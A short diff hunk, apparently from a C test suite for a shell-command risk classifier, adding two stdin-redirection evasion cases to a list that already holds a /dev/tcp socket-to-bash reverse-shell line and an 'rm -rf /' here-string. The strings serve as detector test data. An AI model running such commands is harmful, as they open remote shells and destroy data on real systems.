@@ -1003,6 +1003,8 @@ evasions(void)
 	evade("exec 3<>/dev/tcp/192.0.2.1/80; exec 0<&3; bash", H, NULL);
 	evade("exec 0>&3; bash", H, NULL);
 	evade("exec <<< 'rm -rf /'; sh", H, NULL);
+	evade("exec < 0; sh", H, NULL);		/* a file named 0 */
+	evade("sh < 0", H, NULL);
 	shell("exec 2>/dev/null; ls", L, "ls");
 	shell("exec 3>x; exec 0<&0; sh -c ls", L, "ls");
 	/* past the wrappers looked into: not known */
